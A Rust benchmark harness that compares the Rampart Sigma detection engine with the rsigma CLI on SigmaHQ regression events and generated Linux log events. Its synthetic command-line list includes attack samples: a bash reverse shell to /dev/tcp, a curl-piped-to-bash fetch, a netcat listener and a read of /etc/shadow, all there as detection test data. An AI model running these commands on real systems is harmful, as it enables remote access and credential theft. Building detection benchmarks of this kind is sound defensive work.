//! `cargo xtask bench detect`: Sigma evaluation throughput of Rampart's
//! engine against the `rsigma` CLI (`rsigma engine eval`, from crates.io)
//! in the same run, on the same SigmaHQ rules and the same events, with
//! the match counts per rule compared.
//!
//! The events are the SigmaHQ regression events (Windows, evtx JSON,
//! flattened so both engines see `Image`, `CommandLine`, `EventID` at top
//! level) and generated Linux events (auditd process creation, auditd
//! syscalls and paths, sshd, sudo, cron), at least a million JSON lines,
//! the same for a given `--seed`. Every event states its logsource in
//! `ls_product`/`ls_service`/`ls_category` (as the node assigns it: the
//! Windows classifier for evtx records, the parser's kind for Linux lines,
//! unknown parts `-`), and both engines route on those fields, so an event
//! meets only the rules of its product, service and category, as in the
//! node. Each engine's time is its whole run minus the same run on an
//! empty event file (rule loading), in wall seconds and in CPU seconds
//! (user plus system; on a machine shared with other work the CPU figure
//! is the steadier one); peak RSS comes from `/usr/bin/time -v`.
//!
//! Rampart's side is the `sigma_eval` example of `rampart-detect` (the loop
//! of `rampart rules eval`, in a small release binary); `--rampart` times
//! the full CLI instead. Rampart runs twice: on `--threads` threads (default
//! one per core; the headline wall-clock figure) and on one thread (the
//! like-for-like CPU comparison); both must count the same matches. rsigma is installed by the bench when it is not
//! in the cache: `cargo install rsigma@VERSION --locked` into
//! `CACHE/rsigma-VERSION`, with a build directory of its own that is
//! deleted afterwards.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Instant;

use anyhow::{Context, Result, bail};
use rampart_detect::windows_event_logsource;
use serde_json::{Map, Value, json};

use super::node::target_dir;

/// The newest rsigma whose `rust-version` admits rustc 1.95 (0.24.0 to
/// 0.26.0 ask for 1.96; `cargo install` refuses them). It does not build
/// without its default features (`disposition_spool.rs` imports
/// `rsigma_runtime` unconditionally), so it is built with them.
const RSIGMA_VERSION: &str = "0.23.0";

#[derive(Debug, clap::Args)]
pub struct DetectArgs {
    /// Events to evaluate (at least a million for the record).
    #[arg(long, default_value_t = 1_000_000)]
    events: usize,
    /// Seed of the Linux event generator.
    #[arg(long, default_value_t = 0x5EED)]
    seed: u64,
    /// The SigmaHQ `rules/` directory.
    #[arg(long, default_value = "../shared/testdata/sigma/rules")]
    rules: PathBuf,
    /// The SigmaHQ regression cases (events beside `info.yml`).
    #[arg(long, default_value = "../shared/testdata/sigma/regression")]
    regression: PathBuf,
    /// Where rsigma is installed (default `$XDG_CACHE_HOME/rampart-bench`
    /// or `~/.cache/rampart-bench`); outside the repository.
    #[arg(long)]
    cache: Option<PathBuf>,
    /// Use this rsigma binary instead of installing one.
    #[arg(long)]
    rsigma: Option<PathBuf>,
    /// Time `rampart rules eval` of this binary instead of the
    /// `sigma_eval` example (same loop; the full CLI takes a release build
    /// of the whole node).
    #[arg(long)]
    rampart: Option<PathBuf>,
    /// Also run both engines without routing (every event meets every rule).
    #[arg(long)]
    unrouted: bool,
    /// Threads Rampart matches on (0: one per available core). Rampart is
    /// also run on one thread, for the like-for-like CPU comparison.
    #[arg(long, default_value_t = 0)]
    threads: usize,
    /// Keep the generated events in this file (for profiling).
    #[arg(long)]
    keep_events: Option<PathBuf>,
}

/// Every JSON value of a file holding one or more of them.
fn json_values(text: &str) -> Vec<Value> {
    serde_json::Deserializer::from_str(text).into_iter::<Value>().filter_map(Result::ok).collect()
}

/// An evtx JSON record as a flat object: `EventData` and `System` fields
/// at top level (`Provider_Name` from the provider's attribute).
fn flatten_evtx(v: &Value) -> Value {
    let mut out = Map::new();
    let system = v.pointer("/Event/System");
    if let Some(name) = system.and_then(|s| s.pointer("/Provider/#attributes/Name")) {
        out.insert("Provider_Name".into(), name.clone());
    }
    for part in ["/Event/System", "/Event/EventData", "/Event/UserData"] {
        if let Some(Value::Object(m)) = v.pointer(part) {
            for (k, val) in m {
                match val {
                    // `EventID` with attributes: its text.
                    Value::Object(o) => {
                        if let Some(text) = o.get("#text") {
                            out.insert(k.clone(), text.clone());
                        }
                    }
                    _ => {
                        out.insert(k.clone(), val.clone());
                    }
                }
            }
        }
    }
    Value::Object(out)
}

fn regression_events(dir: &Path) -> Result<Vec<Value>> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let mut entries: Vec<PathBuf> = std::fs::read_dir(&d)
            .with_context(|| format!("reading {}", d.display()))?
            .flatten()
            .map(|e| e.path())
            .collect();
        // Sorted, so the event file is the same from run to run.
        entries.sort();
        for p in entries {
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|e| e == "json") {
                for event in json_values(&std::fs::read_to_string(&p)?) {
                    let flat = flatten_evtx(&event);
                    let ls = windows_event_logsource(&flat).unwrap_or_default();
                    out.push(with_logsource(
                        flat,
                        ls.product.as_deref(),
                        ls.service.as_deref(),
                        ls.category.as_deref(),
                    ));
                }
            }
        }
    }
    Ok(out)
}

/// A small deterministic generator (SplitMix64), so runs are comparable.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }
}

const IMAGES: &[&str] = &[
    "/usr/bin/ls",
    "/usr/bin/cat",
    "/usr/bin/grep",
    "/usr/bin/curl",
    "/usr/bin/wget",
    "/usr/bin/python3",
    "/usr/bin/bash",
    "/usr/bin/sh",
    "/usr/bin/systemctl",
    "/usr/sbin/useradd",
    "/usr/bin/base64",
    "/usr/bin/nc",
    "/usr/bin/crontab",
    "/usr/bin/chmod",
    "/usr/bin/find",
    "/usr/bin/tar",
    "/usr/bin/ssh",
    "/usr/bin/id",
    "/usr/bin/whoami",
    "/usr/bin/uname",
    "/usr/sbin/iptables",
    "/usr/bin/cp",
];
const ARGS: &[&str] = &[
    "-la /var/log",
    "/etc/hostname",
    "-r error /var/log/syslog",
    "-s https://example.org/install.sh",
    "-O /tmp/x http://203.0.113.5/a",
    "-c 'import os; print(os.getcwd())'",
    "-c 'echo hello'",
    "restart nginx",
    "-m backup",
    "-d /tmp/payload.b64",
    "-lvnp 4444",
    "-l",
    "+x /tmp/run.sh",
    "/ -name '*.conf'",
    "czf /tmp/etc.tgz /etc",
    "deploy@10.0.0.7",
    "",
    "-i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "-c 'cat /etc/shadow'",
    "--version",
    "-a",
    "777 /tmp/x",
    "u+s /tmp/sh",
    "/bin/sh /tmp/sh",
    "-F",
    "-c 'curl -s http://203.0.113.5/x | bash'",
];
const USERS: &[&str] = &["root", "deploy", "www-data", "postgres", "alice", "bob"];
const SSHD: &[&str] = &[
    "Failed password for {u} from {ip} port {port} ssh2",
    "Accepted password for {u} from {ip} port {port} ssh2",
    "Accepted publickey for {u} from {ip} port {port} ssh2: ED25519 SHA256:3b1u0Zq",
    "Invalid user {u} from {ip} port {port}",
    "Connection closed by authenticating user {u} {ip} port {port} [preauth]",
    "pam_unix(sshd:session): session opened for user {u}(uid=1000) by (uid=0)",
    "error: kex_exchange_identification: Connection closed by remote host",
    "fatal: buffer_get_string: bad string length 1869",
];

/// The logsource fields both engines route on (see `LS_MAP`).
fn with_logsource(mut event: Value, product: Option<&str>, service: Option<&str>, category: Option<&str>) -> Value {
    // As the node does for ingested events: once anything is known, the
    // parts not known are absent ("-"), so an sshd line never reaches
    // process_creation rules; an event nothing is known of meets every rule.
    let known = product.is_some() || service.is_some() || category.is_some();
    if let Value::Object(m) = &mut event
        && known
    {
        for (key, part) in [("ls_product", product), ("ls_service", service), ("ls_category", category)] {
            m.insert(key.into(), part.unwrap_or("-").into());
        }
    }
    event
}

/// The field map given to both engines (rsigma's `--logsource-field-map`).
const LS_MAP: &str = "product=ls_product,service=ls_service,category=ls_category";

/// One generated Linux event, shaped as the node's parsers present it
/// (`rampart-ingest`'s sshd, sudo and auditd parsers; `view.rs` logsources).
fn linux_event(r: &mut Rng, i: usize) -> Value {
    let user = r.pick(USERS);
    let ip = format!("198.51.100.{}", r.next() % 255);
    match r.next() % 20 {
        // auditd EXECVE: linux / auditd / process_creation.
        0..=8 => {
            let image = r.pick(IMAGES);
            let name = image.rsplit('/').next().unwrap_or(image);
            let args = r.pick(ARGS);
            let mut argv: Vec<String> = vec![name.to_owned()];
            argv.extend(args.split_whitespace().map(str::to_owned));
            let mut ev = json!({
                "type": "EXECVE",
                "argc": argv.len(),
                "CommandLine": argv.join(" "),
                "Image": image,
                "ParentImage": r.pick(&["/usr/bin/bash", "/usr/sbin/sshd", "/usr/sbin/cron", "/usr/bin/python3"]),
                "User": user,
                "CurrentDirectory": r.pick(&["/tmp", "/root", "/home/deploy", "/var/www"]),
                "ProcessId": (1000 + (i % 30_000)).to_string(),
                "ParentProcessId": (900 + (r.next() % 100)).to_string(),
                "message": format!("type=EXECVE msg=audit({}.{:03}:{i}): argc={} {}", 1_764_000_000 + i / 100, i % 1000,
                    argv.len(), argv.iter().enumerate().map(|(k, a)| format!("a{k}=\"{a}\"")).collect::<Vec<_>>().join(" ")),
            });
            if let Value::Object(m) = &mut ev {
                for (k, a) in argv.iter().enumerate().take(8) {
                    m.insert(format!("a{k}"), a.clone().into());
                }
            }
            with_logsource(ev, Some("linux"), Some("auditd"), Some("process_creation"))
        }
        // auditd SYSCALL and PATH records: linux / auditd.
        9..=11 => {
            let ev = if r.next().is_multiple_of(2) {
                let image = r.pick(IMAGES);
                json!({
                    "type": "SYSCALL",
                    "syscall": r.pick(&["execve", "openat", "connect", "unlink", "init_module", "ptrace"]),
                    "exe": image,
                    "comm": image.rsplit('/').next().unwrap_or(image),
                    "key": r.pick(&["exec", "identity", "susp_activity", "network_connect", "-"]),
                    "uid": r.pick(&["0", "1000", "33"]),
                    "success": r.pick(&["yes", "no"]),
                })
            } else {
                json!({
                    "type": "PATH",
                    "name": r.pick(&["/etc/passwd", "/etc/shadow", "/etc/sudoers", "/tmp/x", "/var/log/wtmp", "/root/.ssh/authorized_keys", "/etc/ld.so.preload"]),
                    "nametype": r.pick(&["NORMAL", "CREATE", "DELETE"]),
                })
            };
            with_logsource(ev, Some("linux"), Some("auditd"), None)
        }
        // sshd: linux / sshd.
        12..=15 => {
            let port = (1024 + r.next() % 60_000).to_string();
            let message = r.pick(SSHD).replace("{u}", user).replace("{ip}", &ip).replace("{port}", &port);
            let ev = json!({"message": message, "User": user, "src_ip": ip, "src_port": port});
            with_logsource(ev, Some("linux"), Some("sshd"), None)
        }
        // sudo: linux / sudo.
        16..=18 => {
            let image = r.pick(IMAGES);
            let cmd = format!("{image} {}", r.pick(ARGS));
            let target = r.pick(&["root", "root", "postgres", "#-1"]);
            let ev = json!({
                "message": format!("{user} : TTY=pts/{} ; PWD=/home/{user} ; USER={target} ; COMMAND={cmd}", r.next() % 4),
                "User": user,
                "TargetUser": target,
                "CurrentDirectory": format!("/home/{user}"),
                "CommandLine": cmd,
                "Image": image,
            });
            with_logsource(ev, Some("linux"), Some("sudo"), None)
        }
        // cron and syslog lines.
        _ => {
            let (service, message) = if r.next().is_multiple_of(2) {
                ("cron", format!("({user}) CMD ({} {})", r.pick(IMAGES), r.pick(ARGS)))
            } else {
                (
                    "syslog",
                    r.pick(&[
                        "Started Daily apt upgrade and clean activities.",
                        "rsyslogd was HUPed",
                        "Stopped target Timers.",
                        "Kernel logging (proc) stopped.",
                    ])
                    .to_owned(),
                )
            };
            with_logsource(json!({"message": message}), Some("linux"), Some(service), None)
        }
    }
}

/// What `/usr/bin/time -v` saw of one run.
struct Timed {
    /// Wall seconds.
    wall: f64,
    /// User plus system CPU seconds.
    cpu: f64,
    /// Peak RSS in MB.
    rss: f64,
    stdout: Vec<u8>,
}

/// Runs `cmd` under `/usr/bin/time -v`.
fn timed(cmd: Command) -> Result<Timed> {
    let mut wrapped = Command::new("/usr/bin/time");
    wrapped.arg("-v").arg(cmd.get_program()).args(cmd.get_args());
    for (k, v) in cmd.get_envs() {
        if let Some(v) = v {
            wrapped.env(k, v);
        }
    }
    let started = Instant::now();
    let out = wrapped.stdin(Stdio::null()).output().context("running under /usr/bin/time")?;
    let wall = started.elapsed().as_secs_f64();
    let stderr = String::from_utf8_lossy(&out.stderr);
    if !out.status.success() {
        bail!("{:?} failed: {}", cmd.get_program(), stderr.lines().rev().take(5).collect::<Vec<_>>().join(" | "));
    }
    let field = |name: &str| -> f64 {
        stderr.lines().find_map(|l| l.trim().strip_prefix(name)).and_then(|v| v.trim().parse().ok()).unwrap_or(0.0)
    };
    Ok(Timed {
        wall,
        cpu: field("User time (seconds):") + field("System time (seconds):"),
        rss: field("Maximum resident set size (kbytes):") / 1024.0,
        stdout: out.stdout,
    })
}

/// Matches per rule id from rsigma's NDJSON output (detections only).
fn rsigma_counts(stdout: &[u8]) -> BTreeMap<String, u64> {
    let mut counts = BTreeMap::new();
    for line in String::from_utf8_lossy(stdout).lines() {
        if let Ok(v) = serde_json::from_str::<Value>(line)
            && v.get("correlation_type").is_none()
            && let Some(id) = v["rule_id"].as_str().or_else(|| v["rule_title"].as_str())
        {
            *counts.entry(id.to_owned()).or_default() += 1;
        }
    }
    counts
}

/// The bench's cache directory, outside the repository.
fn cache_dir(arg: Option<&Path>) -> PathBuf {
    if let Some(p) = arg {
        return p.to_path_buf();
    }
    let base = std::env::var_os("XDG_CACHE_HOME")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".cache")))
        .unwrap_or_else(std::env::temp_dir);
    base.join("rampart-bench")
}

/// The rsigma binary: `--rsigma`, or the cached install, installing it on
/// first use (`cargo install rsigma@VERSION --locked`) with a build
/// directory of its own under the cache, deleted afterwards.
fn rsigma_binary(args: &DetectArgs) -> Result<PathBuf> {
    if let Some(p) = &args.rsigma {
        return Ok(p.clone());
    }
    let cache = cache_dir(args.cache.as_deref());
    let root = cache.join(format!("rsigma-{RSIGMA_VERSION}"));
    let bin = root.join("bin").join("rsigma");
    if bin.is_file() {
        return Ok(bin);
    }
    std::fs::create_dir_all(&cache)?;
    let build = cache.join(format!("rsigma-{RSIGMA_VERSION}-build"));
    eprintln!(
        "installing rsigma {RSIGMA_VERSION} into {} (a release build, tens of minutes on 2 cores)",
        root.display()
    );
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    let status = Command::new(cargo)
        .args(["install", &format!("rsigma@{RSIGMA_VERSION}"), "--locked", "--root"])
        .arg(&root)
        .env("CARGO_TARGET_DIR", &build)
        .env("CARGO_INCREMENTAL", "0")
        .current_dir(&cache)
        .status()
        .context("cargo install rsigma");
    // The build directory is gigabytes; it goes whatever happened.
    let _ = std::fs::remove_dir_all(&build);
    if !status?.success() || !bin.is_file() {
        bail!("cargo install rsigma@{RSIGMA_VERSION} failed");
    }
    Ok(bin)
}

/// Builds the `sigma_eval` example of `rampart-detect` in release mode.
fn build_sigma_eval() -> Result<PathBuf> {
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    let status = Command::new(cargo)
        .args(["build", "--release", "-p", "rampart-detect", "--example", "sigma_eval"])
        .status()
        .context("cargo build")?;
    if !status.success() {
        bail!("building the sigma_eval example failed");
    }
    Ok(target_dir().join("release").join("examples").join("sigma_eval"))
}

/// One engine's figures on one event file: loading (the run on an empty
/// file) and evaluation (the full run minus loading), wall and CPU.
struct Run {
    load: f64,
    secs: f64,
    cpu_secs: f64,
    rss: f64,
    counts: BTreeMap<String, u64>,
}

impl Run {
    fn new(empty: &Timed, full: &Timed, counts: BTreeMap<String, u64>) -> Self {
        Run {
            load: empty.wall,
            secs: (full.wall - empty.wall).max(1e-9),
            cpu_secs: (full.cpu - empty.cpu).max(1e-9),
            rss: full.rss,
            counts,
        }
    }
}

fn run_rampart(
    args: &DetectArgs,
    binary: &Path,
    events: &Path,
    empty: &Path,
    routed: bool,
    threads: usize,
) -> Result<Run> {
    let cmd = |file: &Path| {
        let mut c = Command::new(binary);
        if args.rampart.is_some() {
            c.args(["--json", "rules", "eval"]);
        }
        c.arg(&args.rules).arg(file).args(["--threads", &threads.to_string()]);
        if routed {
            c.args(["--logsource-fields", LS_MAP]);
        }
        c
    };
    let empty = timed(cmd(empty))?;
    let full = timed(cmd(events))?;
    let report: Value = serde_json::from_slice(&full.stdout).context("rampart's evaluation output")?;
    let counts = serde_json::from_value(report["by_rule"].clone()).unwrap_or_default();
    Ok(Run::new(&empty, &full, counts))
}

fn run_rsigma(args: &DetectArgs, binary: &Path, events: &Path, empty: &Path, routed: bool) -> Result<Run> {
    let cmd = |file: &Path| {
        let mut c = Command::new(binary);
        c.args(["engine", "eval", "--output-format", "ndjson", "-r"])
            .arg(&args.rules)
            .arg("-e")
            .arg(format!("@{}", file.display()));
        if routed {
            c.args(["--logsource-routing", "--logsource-field-map", LS_MAP]);
        }
        c
    };
    let empty = timed(cmd(empty))?;
    let full = timed(cmd(events))?;
    let counts = rsigma_counts(&full.stdout);
    Ok(Run::new(&empty, &full, counts))
}

/// Rule files by id, for naming the rules whose counts differ.
fn rule_files(dir: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else { continue };
        for p in entries.flatten().map(|e| e.path()) {
            if p.is_dir() {
                stack.push(p);
            } else if let Ok(text) = std::fs::read_to_string(&p) {
                for line in text.lines().filter_map(|l| l.strip_prefix("id: ")) {
                    let rel = p.strip_prefix(dir).unwrap_or(&p).display().to_string();
                    out.entry(line.trim().to_owned()).or_insert(rel);
                }
            }
        }
    }
    out
}

fn loadavg() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .map(|l| l.split_whitespace().take(3).collect::<Vec<_>>().join(" "))
        .unwrap_or_default()
}

fn compare(
    table: &mut String,
    label: &str,
    events: usize,
    ours: &Run,
    theirs: &Run,
    files: &BTreeMap<String, String>,
) -> Result<Vec<String>> {
    let (our_rate, their_rate) = (events as f64 / ours.secs, events as f64 / theirs.secs);
    writeln!(table, "| events/s (wall), {label} | {our_rate:.0} | {their_rate:.0} | {:.2} |", our_rate / their_rate)?;
    let (our_cpu, their_cpu) = (events as f64 / ours.cpu_secs, events as f64 / theirs.cpu_secs);
    writeln!(table, "| events per CPU-second, {label} | {our_cpu:.0} | {their_cpu:.0} | {:.2} |", our_cpu / their_cpu)?;
    writeln!(
        table,
        "| rule loading, {label} | {:.2} s | {:.2} s | {:.2} |",
        ours.load,
        theirs.load,
        ours.load / theirs.load
    )?;
    writeln!(
        table,
        "| peak RSS, {label} | {:.0} MB | {:.0} MB | {:.2} |",
        ours.rss,
        theirs.rss,
        ours.rss / theirs.rss
    )?;
    let keys: BTreeSet<&String> = ours.counts.keys().chain(theirs.counts.keys()).collect();
    let differ: Vec<String> = keys
        .into_iter()
        .filter(|k| ours.counts.get(*k) != theirs.counts.get(*k))
        .map(|k| {
            format!(
                "{k} ({}): rampart {} / rsigma {}",
                files.get(k).map_or("?", String::as_str),
                ours.counts.get(k).unwrap_or(&0),
                theirs.counts.get(k).unwrap_or(&0)
            )
        })
        .collect();
    writeln!(
        table,
        "| matches, {label} | {} by {} rules | {} by {} rules | {} rules differ |",
        ours.counts.values().sum::<u64>(),
        ours.counts.len(),
        theirs.counts.values().sum::<u64>(),
        theirs.counts.len(),
        differ.len()
    )?;
    Ok(differ)
}

pub fn run(args: DetectArgs) -> Result<()> {
    if !args.rules.is_dir() {
        bail!("{} is not a directory of Sigma rules", args.rules.display());
    }
    let rsigma = rsigma_binary(&args)?;
    let binary = match &args.rampart {
        Some(b) => b.clone(),
        None => build_sigma_eval()?,
    };
    let work = tempfile::tempdir()?;
    let regression = regression_events(&args.regression)?;
    let mut rng = Rng(args.seed);
    let mut text = String::with_capacity(args.events * 300);
    let (mut windows, mut linux) = (0usize, 0usize);
    for i in 0..args.events {
        // One event in ten is a regression event, the rest Linux.
        let event = if i % 10 == 0 && !regression.is_empty() {
            windows += 1;
            regression[(i / 10) % regression.len()].clone()
        } else {
            linux += 1;
            linux_event(&mut rng, i)
        };
        text.push_str(&event.to_string());
        text.push('\n');
    }
    let events = args.keep_events.clone().unwrap_or_else(|| work.path().join("events.ndjson"));
    let empty = work.path().join("empty.ndjson");
    std::fs::write(&events, &text)?;
    std::fs::write(&empty, "")?;
    let mb = text.len() as f64 / 1e6;
    drop(text);
    eprintln!(
        "{} events ({windows} Windows regression from {} records, {linux} Linux, seed {:#x}), {mb:.0} MB",
        args.events,
        regression.len(),
        args.seed
    );
    let files = rule_files(&args.rules);
    let load_before = loadavg();

    let mut table = String::new();
    writeln!(table, "| measure | Rampart | rsigma {RSIGMA_VERSION} | ratio |")?;
    writeln!(table, "|---|---|---|---|")?;
    let mut passes = vec![("routed by logsource", true)];
    if args.unrouted {
        passes.push(("unrouted", false));
    }
    let mut all_differ = Vec::new();
    let mut headline = None;
    let threads = rampart_detect::parallel::threads(args.threads);
    for (label, routed) in passes {
        eprintln!("{label}: rampart on {threads} threads …");
        let ours = run_rampart(&args, &binary, &events, &empty, routed, threads)?;
        eprintln!("{label}: rampart on 1 thread …");
        let single = run_rampart(&args, &binary, &events, &empty, routed, 1)?;
        eprintln!("{label}: rsigma …");
        let theirs = run_rsigma(&args, &rsigma, &events, &empty, routed)?;
        let differ = compare(
            &mut table,
            &format!("{label}, Rampart on {threads} threads"),
            args.events,
            &ours,
            &theirs,
            &files,
        )?;
        let one = compare(&mut table, &format!("{label}, Rampart on 1 thread"), args.events, &single, &theirs, &files)?;
        if one != differ {
            bail!("Rampart's match counts differ between {threads} threads and one: {one:?} / {differ:?}");
        }
        all_differ.push((label, differ));
        headline.get_or_insert((args.events as f64 / ours.secs, args.events as f64 / ours.cpu_secs, ours.rss));
    }
    let (rate, cpu_rate, rss) = headline.unwrap_or_default();
    writeln!(
        table,
        "| events/s (wall), routed, against the target | {rate:.0} | target 150,000 | {:.2} |",
        rate / 150_000.0
    )?;
    writeln!(
        table,
        "| events per CPU-second, routed, against the target | {cpu_rate:.0} | target 150,000 | {:.2} |",
        cpu_rate / 150_000.0
    )?;
    writeln!(table, "| | | Hayabusa ~12,800 (published) | {:.1} |", rate / 12_800.0)?;
    writeln!(table, "| | | Wazuh 10,000–20,000 (published) | {:.1}–{:.1} |", rate / 20_000.0, rate / 10_000.0)?;
    writeln!(table, "| peak RSS, routed, against the target | {rss:.0} MB | target 1024 MB | {:.2} |", rss / 1024.0)?;
    println!("{table}");
    for (label, differ) in all_differ {
        println!("{label}: {} rules with different match counts", differ.len());
        for d in differ {
            println!("  {d}");
        }
    }
    let cores = std::thread::available_parallelism().map_or(0, |n| n.get());
    println!(
        "{cores} cores; load average before {load_before}, after {}; Rampart on {threads} threads and on 1, \
         rsigma as its CLI runs (compare its CPU and wall seconds to see whether it used more than one core).",
        loadavg()
    );
    Ok(())
}
